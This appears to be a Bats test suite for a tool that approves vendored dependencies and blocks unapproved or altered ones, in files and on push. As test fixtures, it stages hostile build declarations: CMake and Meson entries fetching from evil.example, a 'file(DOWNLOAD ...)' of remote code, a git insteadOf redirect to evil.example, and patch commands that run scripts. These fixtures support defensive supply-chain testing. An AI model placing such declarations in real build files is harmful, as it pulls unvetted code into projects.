# Third-party components: ways in for what nobody approved, each of which must be told. One
# repository with an approved archive, commit, folder and header is made once and copied.

load helper
load push
load deps

COMMIT=51b7f2abdade71cd9bb0e7a373ef2610ec6f9daf
OTHER=1111111111111111111111111111111111111111

# foo DIR: what upstream published.
foo()
{
	local name

	mkdir -p "$1/src" "$1/tests"
	for name in alpha beta gamma delta epsilon zeta; do
		printf '/* %s of foo */\nint foo_%s(void)\n{\n\treturn %s;\n}\n' "$name" "$name" ${#name} >"$1/src/$name.c"
	done
	printf '/* for tests only */\n#define FOO_INSECURE 1\n' >"$1/tests/config.h"
	printf 'project(foo C)\nadd_library(foo src/alpha.c)\n' >"$1/CMakeLists.txt"
	echo 'Copyright, and a licence' >"$1/LICENSE"
}

# flat DIR: another one, whose sources lie beside its licence.
flat()
{
	local name

	mkdir -p "$1"
	for name in one two three four; do
		printf '/* %s of flat */\nint flat_%s(void)\n{\n\treturn %s;\n}\n' "$name" "$name" ${#name} >"$1/$name.c"
	done
	echo 'Copyright, and another licence' >"$1/COPYING"
}

header()
{
	printf '/* only.h - v1.2 - public domain */\nint only(void);\n'
}

# list_of NAME@VERSION PATH: approved, and the path is gone again.
approved()
{
	mc deps request "$1" "$2" && assess "${1%@*}" && mc deps approve "${1%@*}" --yes
	rm -r "$2"
}

setup_file()
{
	export BATS_TEST_TMPDIR=$BATS_FILE_TMPDIR
	isolate && new_repo base && stage_safe base.c
	foo up && flat flat && header >only.h
	approved foo@1.0 up && approved flat@2.0 flat && approved only@1.2 only.h
	record ".versions[0].forms[\"git-commit\"] = [\"$COMMIT\"] | .identity.aliases = [\"zlib\"] |
		.identity.repositories = [\"https://github.com/madler/zlib\"] |
		.origin.allowed_urls += [\"https://github.com/madler/zlib\"]"
	stage .milecastle/policy.json <<<'{"version": 1}'
	git add -A && git commit -qm base
}

setup()
{
	isolate
	cp -r "$BATS_FILE_TMPDIR/base" work && cd work || return 1
}

# told CODE [ARG...]: what is staged, or what the ARGs of check say, is told and blocks; then
# it is taken back.
told()
{
	local code=$1

	shift
	git add -A
	run mc check "$@"
	expect_status 1
	expect_output "($code)"
	git reset -q --hard && git clean -fdxq
}

passes()
{
	git add -A
	run mc deps check "$@"
	expect_status 0
	expect_output "nothing found"
}

# ---- hashes of another thing ----------------------------------------------------------------

@test "the hash of a patch approves nothing that it alters" {
	mkdir -p subprojects/packagefiles && header >subprojects/packagefiles/only.h
	stage subprojects/evil.wrap <<-'END'
	[wrap-file]
	directory = evil
	source_url = https://evil.example/evil.tar.gz
	source_filename = evil.tar.gz
	diff_files = only.h
	END
	told UNKNOWN_COMPONENT
	mkdir -p subprojects/packagefiles && header >subprojects/packagefiles/only.h
	stage subprojects/evil.wrap <<-'END'
	[wrap-git]
	url = https://evil.example/evil.git
	revision = main
	diff_files = only.h
	END
	told UNKNOWN_COMPONENT
	header >only.h
	stage CMakeLists.txt <<-'END'
	include(FetchContent)
	FetchContent_Declare(evil GIT_REPOSITORY https://evil.example/x.git GIT_TAG main
		PATCH_COMMAND git apply ${CMAKE_CURRENT_SOURCE_DIR}/only.h)
	END
	told UNKNOWN_COMPONENT
}

@test "the digits of a hash count in their own algorithm only" {
	stage zlib.wrap <<-END
	[wrap-hg]
	url = https://github.com/madler/zlib
	revision = $COMMIT
	END
	told UNKNOWN_VERSION
	stage CMakeLists.txt <<-END
	FetchContent_Declare(zlib URL https://zlib.net/x.tgz URL_HASH SHA3_256=$GOOD)
	END
	told UNKNOWN_VERSION
}

@test "an approved hash does not hide what else is said and could not be read" {
	local what

	for what in 'GIT_CONFIG url.https://evil.example/.insteadOf=https://github.com/' \
		'PATCH_COMMAND ${CMAKE_COMMAND} -P ${P}' 'PATCH_COMMAND sh fix.sh'; do
		stage CMakeLists.txt <<-END
		FetchContent_Declare(zlib GIT_REPOSITORY https://github.com/madler/zlib GIT_TAG $COMMIT $what)
		END
		run mc deps check
		expect_output "more is said of it that could not be read"
		expect_output "(UNPARSED)"
	done
}

@test "a patch that changes alone, goes, moves or becomes a link has what it alters judged" {
	local patch

	for patch in fix.patch patches/fix other/fix.diff; do
		mkdir -p "$(dirname "$patch")" && echo 'a patch' >"$patch"
		stage CMakeLists.txt <<-END
		FetchContent_Declare(zlib GIT_REPOSITORY https://github.com/madler/zlib GIT_TAG $COMMIT
			PATCH_COMMAND git apply \${CMAKE_CURRENT_SOURCE_DIR}/$patch)
		END
		jq --arg sum "$(sha256sum <"$patch" | cut -d ' ' -f 1)" '.versions[0].patches = [{
			name: "fix", reason: "a fix", diff_sha256: $sum}]' .milecastle/components/zlib.json >new
		mv new .milecastle/components/zlib.json
		git add -A && commit
		passes HEAD
		echo 'another patch' >"$patch"
		told APPROVED_MODIFIED
		git rm -q "$patch"
		told APPROVED_MODIFIED
		git mv "$patch" notes.txt
		told APPROVED_MODIFIED
		ln -sf ../notes.txt "$patch"
		told APPROVED_MODIFIED
	done
}

# ---- folders ---------------------------------------------------------------------------------

@test "a file that moves out of an approved folder is missing there" {
	foo deps/foo && passes && commit
	git mv deps/foo/src/zeta.c zeta.c
	told APPROVED_MODIFIED
	git mv deps/foo/src/zeta.c zeta.c && sed -i s/4/5/ zeta.c
	told APPROVED_MODIFIED
}

@test "a folder that is known by its licence is judged when only its sources change" {
	flat flat && passes && commit
	echo 'int evil;' >>flat/one.c
	told APPROVED_MODIFIED
	echo 'int evil;' >flat/five.c
	told APPROVED_MODIFIED
	git rm -q flat/two.c
	told APPROVED_MODIFIED
	git rm -q flat/COPYING && echo 'int evil;' >>flat/one.c
	told APPROVED_MODIFIED
	git mv flat/COPYING COPYING
	told APPROVED_MODIFIED
	echo 'int evil;' >>flat/one.c && git add -A && commit
	told APPROVED_MODIFIED --range HEAD^..HEAD
	told APPROVED_MODIFIED --all
}

@test "sources right below a folder for a host or an owner, and with other suffixes" {
	stage deps/github.com/evil.c <<<'int evil;'
	told UNKNOWN_COMPONENT
	stage deps/github.com/owner/evil.c <<<'int evil;'
	told UNKNOWN_COMPONENT
	stage deps/evil.inc <<<'int evil;'
	told UNKNOWN_COMPONENT
}

@test "upstream's content at another place is a change, whatever its line ends and mode" {
	foo deps/foo && sed 's/$/ /' deps/foo/tests/config.h >deps/foo/src/config.h
	told APPROVED_MODIFIED
	foo deps/foo && cp deps/foo/tests/config.h deps/foo/src/config.h && chmod +x deps/foo/src/config.h
	told APPROVED_MODIFIED
	foo deps/foo && mv deps/foo/src/* deps/foo/tests/
	told APPROVED_MODIFIED
	foo deps/foo && mkdir deps/foo/x && mv deps/foo/src deps/foo/x/
	told APPROVED_MODIFIED
	foo deps/foo/foo && passes && git reset -q --hard
	foo deps/foo && sed 's/$/\r/' deps/foo/src/beta.c >t && mv t deps/foo/src/alpha.c
	told APPROVED_MODIFIED
}

@test "that a file may be added to a folder says nothing of what it brings" {
	jq '.versions[0].added_ok = ["extra.cmake", "blob.a", "sub/**"]' .milecastle/components/foo.json >new
	mv new .milecastle/components/foo.json && git add -A && commit
	foo deps/foo && stage deps/foo/extra.cmake <<<'add_library(x x.c)' && passes
	stage deps/foo/extra.cmake <<<'file(DOWNLOAD https://evil.example/x.c x.c)'
	told UNKNOWN_COMPONENT
	foo deps/foo && cp /bin/true deps/foo/blob.a
	told BINARY
	foo deps/foo && stage deps/foo/sub/vendor/evil/evil.c <<<'int evil;'
	told UNKNOWN_COMPONENT
	foo deps/foo && git add -A && git update-index --add --cacheinfo "160000,$OTHER,deps/foo/sub/evil"
	run mc deps check
	expect_status 1
	expect_output "deps/foo/sub/evil"
}

# ---- declarations ----------------------------------------------------------------------------

@test "a value that grows over all limits hides nothing" {
	{
		echo 'set(x https://evil.example/)'
		for _ in {1..20}; do
			echo 'set(x ${x}${x})'
		done
		echo 'FetchContent_Declare(evil URL ${x})'
	} | stage CMakeLists.txt
	told UNKNOWN_COMPONENT
}

# evaluated WHAT: code that is put together of what is not known.
evaluated()
{
	echo "cmake_language(EVAL CODE \"\${call}e \${$1})\")"
}

@test "what could not be read is another thing when it is written otherwise" {
	ln -s one.txt CMakeLists.txt
	evaluated one | stage cmake/x.cmake && git add -A && commit
	mc baseline create && git add -A && commit
	passes HEAD
	expect_output "2 in the baseline"
	evaluated two | stage cmake/x.cmake
	run mc deps check
	expect_output "cmake/x.cmake:1:1: warning:"
	ln -sf two.txt CMakeLists.txt && git add -A
	run mc deps check
	expect_output "CMakeLists.txt: warning:"
	git reset -q --hard
	{ echo '# more' && evaluated one; } >new
	stage cmake/x.cmake <new
	rm new
	passes
}

@test "what stands behind the last entry that is read is told whenever it changes" {
	seq -f 'find_package(e%.0f)' 100001 | stage CMakeLists.txt && commit
	echo 'FetchContent_Declare(evil URL https://evil.example/x.tgz)' >>CMakeLists.txt && git add -A
	run mc deps check
	expect_output "more declarations than are read (UNPARSED)"
}

# ---- pushes ----------------------------------------------------------------------------------

# fails CODE REFSPEC...: this push is refused, with that code.
fails()
{
	local code=$1

	shift
	push origin "$@"
	[ "$status" -ne 0 ] || fail "the push was accepted: $*"
	expect_output "($code)"
}

# begin: at what the server has, on a branch of its own.
begin()
{
	git fetch -q && git switch -q --force-create topic origin/main
}

listed_server()
{
	new_server && server_file <<<'{"version": 1, "deadline": 60, "bootstrap": "first-push"}'
	cp -r "$BATS_FILE_TMPDIR/base/.milecastle" . && git add -A && git commit -qm list
	accepted origin main
}

@test "on a server: no ref, no order of commits and no merge brings it in" {
	listed_server
	begin && wrap "$EVIL" && commit
	fails HASH_MISMATCH HEAD:refs/heads/new
	fails HASH_MISMATCH HEAD:refs/tags/v1
	fails HASH_MISMATCH HEAD:refs/notes/x
	refused ref-namespace origin HEAD:refs/remotes/components/main
	refused ref-namespace origin HEAD:refs/milecastle/components
	git commit -q --allow-empty -m empty
	fails HASH_MISMATCH HEAD:main
	git revert -n HEAD^ && git commit -qm undone && accepted origin HEAD:refs/heads/undone
	fails HASH_MISMATCH HEAD^:refs/heads/known
	fails HASH_MISMATCH "+HEAD^:refs/heads/undone"
	begin && record ".versions[0].forms[\"archive-bytes\"] = [\"$EVIL\"]" && commit
	wrap "$EVIL" && commit
	fails HASH_MISMATCH HEAD^:main HEAD:refs/heads/use
	begin && stage_safe b.c && commit && git switch -qc side origin/main && stage_safe c.c && commit
	git merge -q --no-commit topic && wrap "$EVIL" && git commit -qm merged
	fails HASH_MISMATCH HEAD:refs/heads/merged
	begin && git rm -q base.c && git update-index --add --cacheinfo "160000,$OTHER,base.c" && commit
	fails UNKNOWN_COMPONENT HEAD:main
}

@test "on a server: a merge of two approved versions of a folder is neither" {
	listed_server
	begin && foo up && sed -i 's/return/return 10 +/' up/src/*.c && echo more >>up/LICENSE
	approved foo@2.0 up && git add -A && commit && accepted origin HEAD:main
	begin && foo deps/foo && git add -A && commit && accepted origin HEAD:main
	begin && sed -i 's/return/return 10 +/' deps/foo/src/*.c && echo more >>deps/foo/LICENSE
	git add -A && commit && accepted origin HEAD:refs/heads/two
	git checkout -q origin/main -- deps/foo/src/alpha.c
	fails APPROVED_MODIFIED "$(git commit-tree -p origin/main -p HEAD -m mix "$(git write-tree)"):main"
	git reset -q --hard origin/main
	git rm -q deps/foo/LICENSE && echo 'int evil;' >>deps/foo/src/beta.c && git add -A && commit
	fails APPROVED_MODIFIED HEAD:main
}
